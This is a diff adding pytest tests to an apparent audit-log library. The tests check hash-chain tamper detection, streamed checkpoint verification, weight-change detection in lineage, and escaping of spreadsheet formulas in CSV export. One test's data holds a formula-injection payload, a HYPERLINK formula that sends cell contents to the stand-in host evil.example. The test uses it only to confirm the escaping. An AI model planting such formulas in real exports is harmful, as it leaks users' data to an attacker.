@@ -11,6 +11,7 @@ import hashlib
 import json
 import os
 import threading
+import weakref
 from pathlib import Path
 
 import pytest
@@ -19,10 +20,10 @@ import sqlalchemy as sa
 from heron.cli.main import main
 from heron.govern.audit import (
     EVENT_ERASE, GENESIS, LOG_ENV, AuditLog, Checkpoint, InclusionProof, Record, audit_log, log_location,
-    record_event, record_fields, record_hash, verify_log, verify_proof,
+    record_event, record_fields, record_hash, sign_checkpoint, verify_log, verify_proof,
 )
 from heron.govern.audit_export import export_log, read_export
-from heron.govern.audit_keys import generate_keys, load_public_key, load_signing_key
+from heron.govern.audit_keys import generate_keys, load_public_key, load_signing_key, sign
 from heron.govern.audit_lineage import audit_lineage, format_lineage
 from heron.govern.card import write_document
 from heron.govern.digest import Artifact, file_sha256, folder_sha256, json_sha256, listing_sha256, model_hash
@@ -298,6 +299,21 @@ def test_a_rewrite_with_recomputed_hashes_is_caught_by_a_checkpoint(tmp_path: Pa
     assert not report.ok and report.first_bad == 4 and "rewritten" in report.reason, report
 
 
+def test_a_record_rehashed_alone_breaks_the_link_of_the_next(tmp_path: Path) -> None:
+    """No checkpoint to lean on: record 1 changed and its own hash recomputed holds by itself, so
+    only record 2's prev_hash (still the old hash) gives it away."""
+    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=1000)
+    for i in range(4):
+        log.append(f"event.{i}", actor="alice", parameters={"i": i})
+    assert log.checkpoints() == []
+    rows = [dict(r) for r in rows_of(log)]
+    rows[1]["actor"] = "mallory"
+    rows[1]["hash"] = record_hash(record_fields(rows[1]))
+    report = verify_log(rows)
+    assert (report.ok, report.first_bad, report.records) == (False, 2, 3), report
+    assert report.reason == "unlinked: its prev_hash is not the hash of record 1"
+
+
 def test_signatures(tmp_path: Path, data_file: Path) -> None:
     private, public = generate_keys(tmp_path / "keys")
     other_private, other_public = generate_keys(tmp_path / "other")
@@ -332,6 +348,69 @@ def test_a_signed_external_checkpoint_anchors_the_tail(tmp_path: Path, data_file
     assert log.verify().ok  # nothing left inside to tell
     report = log.verify(public_key=public_key, anchors=[anchor])
     assert not report.ok and report.first_bad == 4 and "external checkpoint" in report.reason, report
+
+
+def verify_from_lists(log: AuditLog, public_key=None, anchors=()):
+    """`AuditLog.verify` the way it read the log before it streamed: every checkpoint at once, the
+    anchors equal to none of them after, and `verify_log` over the lists."""
+    stored = log.checkpoints()
+    kept = [c.to_json() for c in stored]
+    extra = [anchor for anchor in anchors if anchor.to_json() not in kept]
+    return verify_log(rows_of(log), [*stored, *extra], public_key=public_key)
+
+
+def test_verify_streaming_the_checkpoints_reports_as_the_lists_do(tmp_path: Path, data_file: Path) -> None:
+    """Anchors equal to a stored checkpoint, differing from one of the same size, and beyond the log;
+    then a rewrite, a cut, a forged signature (reported before the damaged records, as always)."""
+    key = load_signing_key(generate_keys(tmp_path / "keys")[0])
+    public_key = load_public_key(tmp_path / "keys" / "audit_ed25519.pub.pem")
+    log = make_log(tmp_path / "a.db", data_file, n=9, sign_key=key)  # checkpoints at 4, 8, 9
+    same = Checkpoint.from_json(log.checkpoints()[1].to_json())
+    other = sign_checkpoint(Checkpoint(size=4, root="00" * 32, time="2020-01-01T00:00:00+00:00"), key)
+    beyond = sign_checkpoint(Checkpoint(size=12, root="11" * 32, time="2020-01-01T00:00:00+00:00"), key)
+    cases = [(None, []), (public_key, [same]), (public_key, [beyond, same, other]), (None, [other, other])]
+
+    def check(expect_ok: list[bool]) -> list:
+        reports = [log.verify(public_key=pk, anchors=anchors) for pk, anchors in cases]
+        assert reports == [verify_from_lists(log, pk, anchors) for pk, anchors in cases]
+        assert [r.ok for r in reports] == expect_ok, reports
+        return reports
+
+    assert check([True, True, False, False])[1].checkpoints == 3  # `same` counted once
+    tamper(log, "UPDATE audit_records SET actor = 'mallory' WHERE seq = 6")
+    rechain(log, 6)
+    assert check([False] * 4)[0].first_bad == 4
+    tamper(log, "DELETE FROM audit_records WHERE seq >= 7")
+    check([False] * 4)
+    tamper(log, "UPDATE audit_checkpoints SET signature = :s WHERE id = 2", s=sign(b"other", key))
+    reports = check([False] * 4)
+    assert reports[1].records == 0 and "signature does not verify" in reports[1].reason, reports[1]
+
+
+def test_verify_holds_a_few_checkpoints_at_a_time_not_all(tmp_path: Path, monkeypatch) -> None:
+    """With a checkpoint after every record (the default), verify read every checkpoint (frontier
+    and all) before the first record. It reads them beside the records, in size order."""
+    log = AuditLog.open(tmp_path / "a.db")
+    for i in range(40):
+        log.append("event", actor="alice", parameters={"i": i})
+    alive, made, read = weakref.WeakValueDictionary(), Checkpoint.from_json.__func__, log.store.records
+
+    def tracked(cls, data, id=None) -> Checkpoint:
+        checkpoint = made(cls, data, id)
+        alive[id] = checkpoint
+        return checkpoint
+
+    def records(**filters):
+        for row in read(**filters):
+            held.append(len(alive))
+            yield row
+
+    held: list[int] = []
+    monkeypatch.setattr(Checkpoint, "from_json", classmethod(tracked))
+    monkeypatch.setattr(log.store, "records", records)
+    report = log.verify()
+    assert report.ok and (report.records, report.checkpoints) == (40, 40), report
+    assert len(held) == 40 and max(held) <= 2, held
 
 
 def test_inclusion_proofs_of_records(tmp_path: Path, data_file: Path) -> None:
@@ -469,6 +548,24 @@ def test_export_json_and_csv_round_trip(tmp_path: Path, data_file: Path) -> None
     assert verify_log(back).first_bad == 3
 
 
+def test_a_csv_export_writes_no_formula_and_still_round_trips(tmp_path: Path) -> None:
+    """A spreadsheet runs a cell that starts with = + - @ (tab, carriage return) as a formula: such
+    a text is written after a ' (OWASP's guard), as is one that starts with ' itself, and read back exact."""
+    import csv
+
+    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
+    actors = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1",
+              "'", "alice", "a=b"]
+    for actor in actors:
+        log.append("event", actor=actor, subject=actor)
+    assert export_log(log, tmp_path / "log.csv", "csv") == len(actors)
+    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as f:
+        written = [line["actor"] for line in csv.DictReader(f)]
+    assert written == ["'" + a for a in actors[:8]] + ["alice", "a=b"]
+    back, _ = read_export(tmp_path / "log.csv")
+    assert back == rows_of(log) and verify_log(back).ok
+
+
 # ----- the CLI -----------------------------------------------------------------------------------
 
 
@@ -587,6 +684,28 @@ def test_lineage_follows_the_links_to_the_data(tmp_path: Path, data_file: Path, 
     assert heron("audit", "lineage", str(pruned), "--log", str(tmp_path / "a.db")) == 0
     out = capsys.readouterr().out
     assert "is NOT intact (see `heron audit verify`): the records above may have been altered" in out
+
+
+def test_lineage_reads_the_weights_and_names_a_change_the_manifest_would_hide(tmp_path: Path, capsys) -> None:
+    """Weights changed in place at the same size: the folder hash the lineage looks up is of the files
+    as they are, so no record claims the folder, the changed file is named, and the command fails."""
+    log = AuditLog.open(tmp_path / "a.db", checkpoint_every=0)
+    folder = fake_checkpoint(tmp_path / "run" / "step_2", {"recipe": {"name": "t"}})
+    log.append("train", outputs={"checkpoint": folder}, model_hash=model_hash(folder))
+    steps, history = audit_lineage(folder, log=log)
+    assert steps[0].altered == () and [r.event for r in steps[0].records] == ["train"]
+    assert heron("audit", "lineage", str(folder), "--log", str(tmp_path / "a.db")) == 0
+    weights = folder / "model.safetensors"
+    recorded = file_sha256(weights)
+    weights.write_bytes(bytes(weights.stat().st_size))  # zeros, at the size lineage.json records
+    steps, history = audit_lineage(folder, log=log)
+    assert steps[0].records == () and steps[0].sha256 != folder_sha256(folder)  # the manifest's word, not taken
+    assert steps[0].altered == (f"model.safetensors: sha256 {file_sha256(weights)}, lineage.json records {recorded}",)
+    capsys.readouterr()
+    assert heron("audit", "lineage", str(folder), "--log", str(tmp_path / "a.db")) == 1
+    out = capsys.readouterr().out
+    assert f"ALTERED since its lineage.json was written: model.safetensors: sha256 {file_sha256(weights)}" in out
+    assert f"error: files of {folder} are NOT what their lineage.json records" in out
 
 
 def test_documents_written_into_a_checkpoint_keep_its_lineage(tmp_path: Path, monkeypatch) -> None:
